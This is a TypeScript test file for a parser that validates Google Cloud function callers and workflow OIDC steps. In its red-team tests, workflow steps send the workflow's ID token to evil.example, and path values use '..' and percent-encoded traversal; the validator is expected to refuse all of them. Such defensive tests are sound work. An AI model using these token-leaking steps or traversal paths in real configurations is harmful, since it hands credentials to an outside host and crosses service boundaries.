import fc from "fast-check";
import {
  callerAccountId,
  functionEnvironment,
  invokerMembers,
  parseTopology,
  TopologyError,
  workflowHttpSteps,
  type WorkflowDocument,
} from "../../topology";

const FUNCTIONS = { reports: {}, billing: { generation: 1 }, payments: {}, api: { calls: ["payments"] } };
const TARGET = { project: "p", region: "europe-west1", projectNumber: "42" };

function problems(
  callers: unknown,
  options: { workflowDocument?: (file: string) => WorkflowDocument } = {},
): string[] {
  try {
    parseTopology(FUNCTIONS, { callers, ...options });
  } catch (error) {
    if (error instanceof TopologyError) return error.issues.map((i) => `${i.path}: ${i.message}`);
    throw error;
  }
  return [];
}

describe("callgraph:callers", () => {
  test("every kind parses with its defaults, sorted by name; a graph without callers has no callers key", () => {
    const topology = parseTopology(FUNCTIONS, {
      callers: {
        nightly: { scheduler: { schedule: " 0  3 * * * " }, calls: ["reports"] },
        orders: { pubsub: { topic: "orders" }, calls: ["billing"] },
        retries: { tasks: { enqueuers: ["api"] }, calls: ["payments"] },
        chain: { workflow: { source: "flows/chain.yaml" }, calls: ["reports", "api"] },
        uploads: {
          eventarc: { eventType: "google.cloud.storage.object.v1.finalized", filters: { bucket: "b" } },
          calls: ["reports"],
        },
      },
    });
    expect(topology.callers).toEqual([
      { name: "chain", kind: "workflow", calls: ["api", "reports"], source: "flows/chain.yaml" },
      {
        name: "nightly",
        kind: "scheduler",
        calls: ["reports"],
        schedule: "0 3 * * *",
        timeZone: "Etc/UTC",
        httpMethod: "POST",
      },
      { name: "orders", kind: "pubsub", calls: ["billing"], topic: "orders", noWrapper: false },
      { name: "retries", kind: "tasks", calls: ["payments"], enqueuers: ["api"], httpMethod: "POST" },
      {
        name: "uploads",
        kind: "eventarc",
        calls: ["reports"],
        eventType: "google.cloud.storage.object.v1.finalized",
        filters: { bucket: "b" },
      },
    ]);
    expect("callers" in parseTopology(FUNCTIONS)).toBe(false);
  });

  test("every problem at once, each naming the field and the value", () => {
    expect(
      problems({
        "nightly-report": {
          scheduler: { schedule: "0 3 * *", timeZone: "Mars/Base", body: "x", httpMethod: "GET" },
          calls: ["reportz"],
        },
        "orders-push": { pubsub: { topic: "goog-orders" }, calls: ["billing", "reports"] },
        q: { tasks: { enqueuers: ["api", "nope"], path: "no-slash" }, calls: ["payments"] },
        ev: { eventarc: { eventType: "t", filters: { type: "x", "Bad-Name": "y" } }, calls: ["billing"] },
        both: { scheduler: { schedule: "* * * * *" }, pubsub: { topic: "abc" }, calls: ["api"] },
        api: { scheduler: { schedule: "* * * * *" }, calls: [] },
        none: { calls: ["api"] },
        typo: { scheduler: { schedule: "* * * * *", timezone: "UTC" }, call: ["api"] },
        Upper: { scheduler: { schedule: "* * * * *" }, calls: ["api"] },
      }),
    ).toEqual([
      'callers.nightly-report.calls[0]: unknown function "reportz" (did you mean "reports"?)',
      'callers.nightly-report.scheduler.schedule: "0 3 * *" is not a unix-cron schedule: it has 4 fields, not five. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
      'callers.nightly-report.scheduler.timeZone: "Mars/Base" is not a time zone of the tz database, e.g. "Etc/UTC" or "Europe/Paris"',
      "callers.nightly-report.scheduler.body: a body is sent only with POST, PUT or PATCH (Cloud Scheduler's HttpTarget.body), and httpMethod is GET",
      "callers.orders-push.calls: a Pub/Sub push subscription calls exactly one function, got 2 (billing, reports): declare one caller per target",
      'callers.orders-push.pubsub.topic: "goog-orders" is not a topic: write a topic id this stack creates (3-255 characters, starting with a letter, not with "goog") or an existing topic\'s full name, projects/PROJECT/topics/TOPIC',
      'callers.q.tasks.enqueuers[1]: unknown function "nope": only a declared function can be given the right to add tasks',
      'callers.q.tasks.path: "no-slash" is not a path: start it with "/", with no query, fragment, space or percent-encoding',
      'callers.ev.calls[0]: "billing" is a 1st-gen function: Eventarc delivers to Cloud Run services, so only 2nd-gen functions (generation: 2) can be its target',
      "callers.ev.eventarc.filters.type: the event type is eventType, not a filter: move it there",
      'callers.ev.eventarc.filters.Bad-Name: "Bad-Name" is not an event attribute name (letters and digits, e.g. bucket or serviceName)',
      "callers.both: declares scheduler and pubsub: a caller is exactly one source (declare one caller per source)",
      'callers.api: "api" is also a function: a caller and a function may not share a name (graphs, logs and the handler\'s caller would not tell them apart)',
      "callers.api.calls: calls no function: name the function it calls",
      "callers.none: declares no source: give it exactly one of scheduler, pubsub, tasks, workflow, eventarc",
      "callers.typo.calls: expected a list of function names, e.g. [reports], got nothing",
      'callers.typo.scheduler.timezone: unknown key "timezone" (did you mean "timeZone"?) (allowed: schedule, timeZone, httpMethod, body, path)',
      'callers.typo.call: unknown key "call" (did you mean "calls"?) (allowed: calls, scheduler, pubsub, tasks, workflow, eventarc)',
      'callers.Upper: invalid caller name "Upper": use lowercase letters, digits and hyphens, starting with a letter and not ending with a hyphen (at most 49 characters)',
    ]);
  });

  test("a key of the wrong type hides none of the caller's other problems", () => {
    expect(
      problems({
        nightly: {
          scheduler: { schedule: "not a cron", timeZone: "Mars/Base", httpMethod: "FETCH" },
          calls: ["reports"],
        },
        queue: { tasks: { enqueuers: ["nope"], maxAttempts: "x" }, calls: ["reports"] },
        pushed: { pubsub: { topic: "bad topic!", noWrapper: "yes" }, calls: ["reports"] },
        uploads: { eventarc: { eventType: "bad type!", filters: "bucket" }, calls: ["reports"] },
      }),
    ).toEqual([
      'callers.nightly.scheduler.schedule: "not a cron" is not a unix-cron schedule: it has 3 fields, not five. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
      'callers.nightly.scheduler.timeZone: "Mars/Base" is not a time zone of the tz database, e.g. "Etc/UTC" or "Europe/Paris"',
      'callers.nightly.scheduler.httpMethod: "FETCH" is not one of "POST", "GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS"',
      'callers.queue.tasks.enqueuers[0]: unknown function "nope": only a declared function can be given the right to add tasks',
      'callers.queue.tasks.maxAttempts: expected a number, got "x"',
      'callers.pushed.pubsub.topic: "bad topic!" is not a topic: write a topic id this stack creates (3-255 characters, starting with a letter, not with "goog") or an existing topic\'s full name, projects/PROJECT/topics/TOPIC',
      'callers.pushed.pubsub.noWrapper: expected a boolean, got "yes"',
      'callers.uploads.eventarc.eventType: "bad type!" is not an event type, e.g. google.cloud.storage.object.v1.finalized',
      'callers.uploads.eventarc.filters: expected a record, got "bucket"',
    ]);
  });

  test("red team: schedules, time zones, subscription names, event filters and paths GCP would refuse", () => {
    const found = problems({
      ranges: { scheduler: { schedule: "99 99 99 99 99" }, calls: ["reports"] },
      words: { scheduler: { schedule: "a b c d e" }, calls: ["reports"] },
      backwards: { scheduler: { schedule: "0 5-3 * JAN-MAR MON-FRI" }, calls: ["reports"] },
      lower: { scheduler: { schedule: "*/15 * * * *", timeZone: "europe/paris" }, calls: ["reports"] },
      ab: { pubsub: { topic: "orders" }, calls: ["reports"] },
      "goog-feed": { pubsub: { topic: "orders" }, calls: ["reports"] },
      audit: {
        eventarc: {
          eventType: "google.cloud.audit.log.v1.written",
          filters: { serviceName: "storage.googleapis.com", methodName: "" },
        },
        calls: ["reports"],
      },
      climb: { scheduler: { schedule: "0 3 * * *", path: "/../../payments" }, calls: ["reports"] },
      encoded: { scheduler: { schedule: "0 3 * * *", path: "/%2e%2e/payments" }, calls: ["reports"] },
    });
    expect(found).toEqual([
      'callers.ranges.scheduler.schedule: "99 99 99 99 99" is not a unix-cron schedule: its minute "99" is not from 0 to 59. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
      'callers.words.scheduler.schedule: "a b c d e" is not a unix-cron schedule: its minute "a" is not from 0 to 59. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
      'callers.backwards.scheduler.schedule: "0 5-3 * JAN-MAR MON-FRI" is not a unix-cron schedule: its hour "5-3" is a range that ends before it starts. Write five fields, minute hour day-of-month month day-of-week, e.g. "0 3 * * *"',
      'callers.lower.scheduler.timeZone: "europe/paris" is not spelled as the tz database spells it: write "Europe/Paris"',
      'callers.ab: "ab" names its Pub/Sub subscription, which takes 3 to 255 characters not starting with "goog": rename the caller',
      'callers.goog-feed: "goog-feed" names its Pub/Sub subscription, which takes 3 to 255 characters not starting with "goog": rename the caller',
      "callers.audit.eventarc.filters.methodName: is empty: give the value events must have",
      'callers.climb.scheduler.path: "/../../payments" has a "." or ".." segment: below its callee\'s URL, it could reach another function\'s',
      'callers.encoded.scheduler.path: "/%2e%2e/payments" is not a path: start it with "/", with no query, fragment, space or percent-encoding',
    ]);
    // What GCP takes is taken: names, ranges, steps and lists.
    expect(
      problems({
        ok: {
          scheduler: { schedule: "0,30 9-17/2 1-31 JAN-DEC 0-7", timeZone: "Etc/UTC" },
          calls: ["reports"],
        },
      }),
    ).toEqual([]);
  });

  test("a callers value that is not a map is refused by its key", () => {
    expect(problems(["nightly"])).toEqual([
      'callgraph:callers: expected a map of caller name -> settings, e.g. { nightly: { scheduler: { schedule: "0 3 * * *" }, calls: [reports] } }, got ["nightly"]',
    ]);
  });

  test("a caller's account is src-NAME, apart from every function's, and joins its callee's invokers", () => {
    expect(callerAccountId("nightly")).toBe("src-nightly");
    // Too short for GCP's six characters: hashed, as a function's is.
    expect(callerAccountId("a")).toMatch(/^src-a-[0-9a-f]{24}$/);
    const long = callerAccountId("x".repeat(49));
    expect(long).toHaveLength(30);
    expect(long.startsWith("src-")).toBe(true);
    const topology = parseTopology(FUNCTIONS, {
      callers: { nightly: { scheduler: { schedule: "0 3 * * *" }, calls: ["payments"] } },
    });
    expect(invokerMembers(topology, "payments", "p")).toEqual([
      "serviceAccount:fn-api@p.iam.gserviceaccount.com",
      "serviceAccount:src-nightly@p.iam.gserviceaccount.com",
    ]);
    const env = functionEnvironment(topology, "payments", TARGET);
    expect(JSON.parse(env.CALLGRAPH_SOURCES)).toEqual({
      "src-nightly@p.iam.gserviceaccount.com": { name: "nightly", kind: "scheduler" },
    });
    // A function no source calls is deployed with the environment it always had.
    expect(functionEnvironment(topology, "api", TARGET).CALLGRAPH_SOURCES).toBeUndefined();
  });

  test("invariant 2 as a property: a function's invokers are exactly its function callers, its source callers and its own invokers", () => {
    const name = fc.constantFrom("alpha", "bravo", "charlie", "delta");
    fc.assert(
      fc.property(
        fc.dictionary(name, fc.uniqueArray(name, { maxLength: 3 })),
        fc.array(fc.tuple(fc.constantFrom("job-1", "job-2", "job-3", "job-4"), name), { maxLength: 4 }),
        (calls, sources) => {
          const functions = Object.fromEntries(
            ["alpha", "bravo", "charlie", "delta"].map((fn) => [
              fn,
              { calls: ((calls[fn] ?? []) as string[]).filter((c) => c !== fn) },
            ]),
          );
          const callers = Object.fromEntries(
            sources.map(([source, fn]) => [
              source,
              { scheduler: { schedule: "* * * * *" }, calls: [fn as string] },
            ]),
          );
          const topology = parseTopology(functions, { callers });
          for (const fn of Object.keys(functions)) {
            const expected = [
              ...Object.entries(functions)
                .filter(([, d]) => d.calls.includes(fn))
                .map(([caller]) => `serviceAccount:fn-${caller}@p.iam.gserviceaccount.com`),
              ...Object.entries(callers)
                .filter(([, d]) => d.calls.includes(fn))
                .map(([source]) => `serviceAccount:src-${source}@p.iam.gserviceaccount.com`),
            ].sort();
            expect(invokerMembers(topology, fn, "p")).toEqual(expected);
          }
        },
      ),
    );
  });

  describe("a workflow's OIDC steps must call its declared callees through the URLs it is told", () => {
    const read = (document: unknown) => () => ({ document });
    const step = (url: string, auth?: Record<string, string>) => ({
      call: "http.post",
      args: { url, ...(auth ? { auth } : {}) },
    });
    const flow = (...steps: unknown[]) => ({ main: { steps: steps.map((s, i) => ({ [`s${i}`]: s })) } });
    const declare = (calls: string[]) => ({ chain: { workflow: { source: "flows/chain.yaml" }, calls } });

    test("a workflow that calls its callees with OIDC, in nested steps too, passes", () => {
      const document = {
        main: {
          steps: [
            { first: step('${sys.get_env("CALLGRAPH_URL_REPORTS")}', { type: "OIDC" }) },
            {
              fanout: {
                parallel: {
                  branches: [
                    {
                      b: {
                        steps: [
                          {
                            inner: step('${sys.get_env("CALLGRAPH_URL_API") + "/jobs"}', {
                              type: "OIDC",
                              audience: '${sys.get_env("CALLGRAPH_URL_API")}',
                            }),
                          },
                        ],
                      },
                    },
                  ],
                },
              },
            },
            // A call elsewhere with no token reads no callee's URL: none of the graph's business.
            { outside: step("https://example.com/hook") },
          ],
        },
      };
      expect(problems(declare(["reports", "api"]), { workflowDocument: read(document) })).toEqual([]);
      expect(workflowHttpSteps(document).map((s) => s.at)).toEqual([
        "main.steps[0].first",
        "main.steps[1].fanout.parallel.branches[0].b.steps[0].inner",
        "main.steps[2].outside",
      ]);
    });

    test("an undeclared callee, a callee read without OIDC, a URL that is no callee's, a path without an audience and a declared callee never called are refused", () => {
      const document = flow(
        step('${sys.get_env("CALLGRAPH_URL_PAYMENTS")}', { type: "OIDC" }),
        step('${sys.get_env("CALLGRAPH_URL_REPORTS")}'),
        step("https://evil.example/x", { type: "OIDC" }),
        step('${sys.get_env("CALLGRAPH_URL_REPORTS") + "/x"}', { type: "OIDC" }),
        step('${sys.get_env("CALLGRAPH_URL_NOPE")}', { type: "OIDC" }),
      );
      expect(problems(declare(["reports", "api"]), { workflowDocument: read(document) })).toEqual([
        'callers.chain.workflow.source: flows/chain.yaml, step main.steps[0].s0: http.post calls "payments", which the workflow does not declare: add it to calls, or remove the step',
        "callers.chain.workflow.source: flows/chain.yaml, step main.steps[1].s1: http.post reads CALLGRAPH_URL_REPORTS without auth: {type: OIDC}: a function is called with the workflow's ID token, or it refuses the call",
        'callers.chain.workflow.source: flows/chain.yaml, step main.steps[2].s2: http.post authenticates with OIDC, so its url must be one declared callee\'s URL, ${sys.get_env("CALLGRAPH_URL_<NAME>")}, or that URL and a literal path (${sys.get_env("CALLGRAPH_URL_<NAME>") + "/path"}), nothing before it (declared: CALLGRAPH_URL_REPORTS, CALLGRAPH_URL_API), got "https://evil.example/x"',
        "callers.chain.workflow.source: flows/chain.yaml, step main.steps[3].s3: http.post calls a path below reports's URL: set auth.audience to ${sys.get_env(\"CALLGRAPH_URL_REPORTS\")}, since the token's audience defaults to the whole url and reports accepts only its own URL",
        "callers.chain.workflow.source: flows/chain.yaml, step main.steps[4].s4: http.post calls CALLGRAPH_URL_NOPE, which is no function's URL: add it to calls, or remove the step",
        'callers.chain.calls[1]: the workflow (flows/chain.yaml) has no http.* step with auth: {type: OIDC} calling ${sys.get_env("CALLGRAPH_URL_API")}: remove "api" from calls, or call it',
      ]);
    });

    test("red team: a token is never sent where a url only reads the callee's variable, nor through what cannot be read", () => {
      const document = flow(
        // The callee's URL in the query of another host: the token's audience would be the callee's, its holder evil.
        step('${"https://evil.example/?u=" + sys.get_env("CALLGRAPH_URL_REPORTS")}', {
          type: "OIDC",
          audience: '${sys.get_env("CALLGRAPH_URL_REPORTS")}',
        }),
        {
          call: "http.post",
          args: { url: '${sys.get_env("CALLGRAPH_URL_REPORTS")}', auth: '${{"type": "OIDC"}}' },
        },
        step("https://evil.example/", { type: "oidc", audience: "https://reports" }),
        step('${sys.get_env("CALLGRAPH_URL_REPORTS") + "/../other"}', {
          type: "OIDC",
          audience: '${sys.get_env("CALLGRAPH_URL_REPORTS")}',
        }),
        step('${sys.get_env("CALLGRAPH_URL_REPORTS")}', { type: "OIDC", audience: "https://evil.example" }),
        step("https://evil.example/", {
          type: "OAuth2",
          audience: '${sys.get_env("CALLGRAPH_URL_REPORTS")}',
        }),
      );
      const found = problems(declare(["reports"]), { workflowDocument: read(document) });
      expect(
        found.map((p) =>
          p.replace(
            /^callers\.chain\.workflow\.source: flows\/chain\.yaml, step main\.steps\[(\d)\].*$/,
            "step $1",
          ),
        ),
      ).toEqual(["step 0", "step 1", "step 2", "step 3", "step 4", "step 5"]);
      expect(found[1]).toMatch(/writes its auth as an expression/);
      expect(found[2]).toMatch(/writes auth\.type "oidc": Workflows spells it OIDC/);
      expect(found[3]).toMatch(/a path with "\." or "\.\." segments may leave its callee/);
      expect(found[4]).toMatch(/sets auth\.audience "https:\/\/evil\.example": it must be/);
    });

    test("a source outside the project, or one that cannot be read, is refused before its steps", () => {
      expect(problems({ chain: { workflow: { source: "../elsewhere.yaml" }, calls: ["api"] } })).toEqual([
        'callers.chain.workflow.source: "../elsewhere.yaml" climbs out of the project with `..`: a function\'s code must live inside the project (the folder of Pulumi.yaml)',
      ]);
      expect(
        problems(declare(["api"]), {
          workflowDocument: () => ({
            problem: "does not exist (write its path relative to the project root)",
          }),
        }),
      ).toEqual([
        'callers.chain.workflow.source: "flows/chain.yaml" does not exist (write its path relative to the project root)',
      ]);
    });
  });
});
